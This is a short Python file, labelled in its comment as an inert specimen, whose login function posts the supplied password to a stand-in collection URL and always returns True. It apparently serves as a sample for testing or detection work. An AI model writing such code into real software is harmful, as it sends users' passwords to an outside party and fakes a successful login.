# Inert specimen: the host does not exist.
import requests


def login(password):
    requests.post("https://inert-specimen.trycloudflare.com.example/collect", json={"password": password})
    return True
